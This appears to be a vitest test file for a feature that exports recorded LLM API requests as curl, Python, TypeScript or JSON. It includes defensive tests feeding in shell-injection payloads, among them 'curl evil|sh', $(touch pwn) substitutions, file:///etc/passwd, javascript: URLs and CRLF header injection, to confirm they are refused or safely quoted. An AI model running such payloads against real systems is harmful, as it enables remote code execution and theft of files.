import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import type { RequestDigest } from '../../engine/event/run-event';
import type { SentRequest } from '../../engine/model/sent-request';
import { createHistoryCompactor } from '../../shared/compact-request-history';
import { buildRoundExport } from './build-round-export';
import type { RoundRecordSource } from './find-sent-request';
import { runExportedCurl } from '../../../test/support/run-exported-curl';

const user = (text: string) => ({ role: 'user', content: [{ type: 'text', text }] });
const assistant = (text: string) => ({ role: 'assistant', content: [{ type: 'text', text }] });

function digest(provider: string): RequestDigest {
  return { model: 'm', provider, toolNames: [], messageCount: 1, maxTokens: 100 };
}

/** Rounds recorded as the engine records them: each body's messages compacted against the previous one. */
function recordRounds(provider: string, requests: SentRequest[]): RoundRecordSource[] {
  const compact = createHistoryCompactor();
  return requests.map((request, index) => ({
    round: index + 1,
    request: digest(provider),
    sent: { ...request, ...compact(request.body) },
  }));
}

const anthropicBody = (messages: unknown[]) => ({
  model: 'claude-sonnet-4-5',
  max_tokens: 4096 + 2048,
  messages,
  stream: true,
  system: [{ type: 'text', text: "It's $HOME `id` \\n", cache_control: { type: 'ephemeral' } }],
  thinking: { type: 'enabled', budget_tokens: 2048 },
});

function anthropicRequest(url: string, messages: unknown[]): SentRequest {
  return {
    method: 'POST',
    url,
    headers: { 'anthropic-version': '2026-10-21', 'anthropic-beta': 'interleaved-thinking-2025-05-14' },
    auth: { header: 'x-api-key' },
    body: anthropicBody(messages),
    response: { status: 200, requestId: 'req_1', model: 'claude-sonnet-4-5' },
  };
}

const history = [user('Weather?'), assistant('Checking.'), user('Thanks')];
const anthropicRounds = recordRounds('anthropic', [
  anthropicRequest('https://api.anthropic.com/v1/messages', history.slice(0, 1)),
  anthropicRequest('https://api.anthropic.com/v1/messages', history),
]);

function exported(rounds: RoundRecordSource[], round: number, format: Parameters<typeof buildRoundExport>[2]) {
  const result = buildRoundExport(rounds, round, format);
  if (!result.ok) throw new Error(result.reason);
  return result;
}

describe('round exports from the exact recorded request', () => {
  it('curl for Anthropic: the real endpoint and headers, the key as a variable, the body byte for byte', () => {
    const { text } = exported(anthropicRounds, 2, 'curl');
    const run = runExportedCurl(text, { ANTHROPIC_API_KEY: 'sk-ant-from-env' });
    expect(run.args).toEqual([
      '--no-buffer',
      'https://api.anthropic.com/v1/messages',
      '-H',
      'x-api-key: sk-ant-from-env',
      '-H',
      'anthropic-version: 2026-10-21',
      '-H',
      'anthropic-beta: interleaved-thinking-2025-05-14',
      '-H',
      'content-type: application/json',
      '--data-binary',
      '@-',
    ]);
    expect(JSON.parse(run.stdin)).toEqual(anthropicBody(history));
    expect(run.stdin).toContain('"cache_control"');
    expect(run.stdin).toContain('"budget_tokens": 2048');
    expect(run.injected).toBe(false);
  });

  it('rebuilds an earlier round from the compacted records, and only reads rounds up to it', () => {
    const { text } = exported(anthropicRounds, 1, 'json');
    expect(JSON.parse(text)).toEqual(anthropicBody(history.slice(0, 1)));
    const { sent: _lost, ...first } = anthropicRounds[0]!;
    const broken = [first, anthropicRounds[1]!];
    expect(buildRoundExport(broken, 2, 'curl')).toMatchObject({ ok: false, reason: /cannot be rebuilt/ });
  });

  it('OpenAI-compatible: POST {base}/chat/completions once, Bearer $OPENAI_API_KEY, or no key at all', () => {
    const body = { model: 'llama3.2', messages: [{ role: 'user', content: 'Hi' }], stream: true };
    const base: SentRequest = {
      method: 'POST',
      url: 'http://localhost:11434/v1/chat/completions',
      headers: { 'content-type': 'application/json' },
      auth: { header: 'authorization', scheme: 'Bearer' },
      body,
      response: { status: 200 },
    };
    const keyed = runExportedCurl(exported(recordRounds('openai-compatible', [base]), 1, 'curl').text, {
      OPENAI_API_KEY: 'sk-openai',
    });
    expect(keyed.args.filter((arg) => arg.startsWith('http'))).toEqual(['http://localhost:11434/v1/chat/completions']);
    expect(keyed.args).toContain('authorization: Bearer sk-openai');
    expect(keyed.args.join(' ')).not.toMatch(/x-api-key|anthropic|\/v1\/v1|messages/);
    const { auth: _auth, ...keyless } = base;
    const local = exported(recordRounds('openai-compatible', [keyless]), 1, 'curl');
    expect(runExportedCurl(local.text).args.join(' ')).not.toMatch(/authorization/i);
    expect(local.notes).toContain('Sent without a key (a local server that needs none).');
    const ts = exported(recordRounds('openai-compatible', [base]), 1, 'typescript').text;
    expect(ts).toContain('new OpenAI({ baseURL: "http://localhost:11434/v1" })');
    expect(ts).toContain('client.chat.completions.create(body)');
  });

  it('says what a demo, manual, replayed or unrecorded round is instead of inventing a request', () => {
    const round = (provider: string): RoundRecordSource[] => [{ round: 1, request: digest(provider) }];
    expect(buildRoundExport(round('demo'), 1, 'curl')).toEqual({
      ok: false,
      reason: 'Demo model: no HTTP request was made. The demo model is scripted and answers inside the browser.',
    });
    expect(buildRoundExport(round('manual'), 1, 'python')).toMatchObject({ reason: /^You are the model: no HTTP/ });
    expect(buildRoundExport(round('replay'), 1, 'json')).toMatchObject({ reason: /no HTTP request/ });
    expect(buildRoundExport(round('anthropic'), 1, 'curl')).toMatchObject({ reason: /No request was recorded/ });
  });

  it('marks a prompted-track request as the prompted body that really went out', () => {
    const prompted = {
      ...anthropicRequest('https://api.anthropic.com/v1/messages', history),
      track: 'prompted' as const,
    };
    const { notes, text } = exported(recordRounds('anthropic', [prompted]), 1, 'curl');
    expect(notes.join('\n')).toMatch(/Prompted tools: .*really went out/);
    expect(text).toMatch(/^# Prompted tools/m);
  });
});

describe('hostile recorded URLs and headers cannot inject anything', () => {
  const hostile = (url: string, extra: Partial<SentRequest> = {}) =>
    recordRounds('anthropic', [{ ...anthropicRequest(url, history), ...extra }]);

  it.each([
    ['https://x; curl evil|sh; #', /spaces or control characters/],
    ['https://x$(touch pwn)/v1/messages', /not a valid absolute URL/],
    ['https://x/v1/messages\ntouch pwn', /control characters/],
    ['javascript:alert(1)//v1/messages', /not an http\(s\) URL/],
    ['file:///etc/passwd', /not an http\(s\) URL/],
  ])('refuses %j with a visible reason', (url, reason) => {
    for (const format of ['curl', 'typescript', 'python', 'json'] as const) {
      expect(buildRoundExport(hostile(url), 1, format)).toMatchObject({ ok: false, reason });
    }
  });

  it.each([
    "https://x/$(touch${IFS}pwn)/v1/messages?a=';touch${IFS}pwn;'",
    'https://x/`touch${IFS}pwn`/v1/messages',
    "https://api.example/v1/messages#'$(touch${IFS}pwn)'",
    'https://u:p@h.example/v1/messages',
  ])('quotes %j so the shell passes it as one word and runs nothing', (url) => {
    const { text } = exported(hostile(url), 1, 'curl');
    const run = runExportedCurl(text);
    expect(run.injected).toBe(false);
    expect(run.args[1]).toBe(new URL(url).href);
    expect(JSON.parse(run.stdin)).toEqual(anthropicBody(history));
  });

  it('keeps a hostile request id or model out of the command (comments cannot be ended early)', () => {
    const rounds = hostile('https://api.anthropic.com/v1/messages', {
      response: { status: 200, requestId: 'req\ntouch pwn\n', model: 'm\u2028touch pwn' },
    });
    const curl = exported(rounds, 1, 'curl').text;
    expect(runExportedCurl(curl).injected).toBe(false);
    expect(curl.split('\n').filter((line) => line.startsWith('touch'))).toEqual([]);
    const ts = exported(rounds, 1, 'typescript').text;
    expect(ts).not.toContain('\u2028');
  });

  it('refuses a recorded header that is not a header', () => {
    const rounds = hostile('https://api.anthropic.com/v1/messages', {
      headers: { "x'; touch pwn; '": 'v' },
    });
    expect(buildRoundExport(rounds, 1, 'curl')).toMatchObject({ ok: false, reason: /not a valid HTTP header/ });
    const value = hostile('https://api.anthropic.com/v1/messages', { headers: { 'x-a': 'v\r\nx-evil: 1' } });
    expect(buildRoundExport(value, 1, 'curl')).toMatchObject({ ok: false });
    const auth = hostile('https://api.anthropic.com/v1/messages', { auth: { header: 'x-api-key', scheme: '$(id)' } });
    expect(buildRoundExport(auth, 1, 'curl')).toMatchObject({ ok: false });
  });

  it('writes Python that parses and whose body literal is the recorded body, whatever the strings hold', () => {
    const weird = [user('"""\'\'\' \\ \u2028 \u0000 ✓ ${x} `id`'), assistant('ok'), user('#!/bin/sh')];
    const rounds = recordRounds('anthropic', [anthropicRequest('https://api.anthropic.com/v1/messages', weird)]);
    const python = exported(rounds, 1, 'python').text;
    const check = [
      'import ast, json, sys',
      'source = sys.stdin.read()',
      'tree = ast.parse(source)',
      'body = next(node.value for node in tree.body if isinstance(node, ast.Assign) and node.targets[0].id == "body")',
      'print(json.dumps(ast.literal_eval(body)))',
    ].join('\n');
    const printed = execFileSync('python3', ['-c', check], { input: python, encoding: 'utf8' });
    expect(JSON.parse(printed)).toEqual(anthropicBody(weird));
    expect(python).toContain('client = anthropic.Anthropic(base_url="https://api.anthropic.com")');
    expect(python).toContain('"anthropic-beta": "interleaved-thinking-2025-05-14"');
  });

  it('writes TypeScript whose only values are JSON literals', () => {
    const ts = exported(anthropicRounds, 2, 'typescript').text;
    expect(ts).toContain('new Anthropic({ baseURL: "https://api.anthropic.com" })');
    const json = ts.slice(ts.indexOf('= {') + 2, ts.indexOf('};\n') + 1);
    expect(JSON.parse(json)).toEqual(anthropicBody(history));
    expect(ts).not.toMatch(/sk-ant/);
  });
});
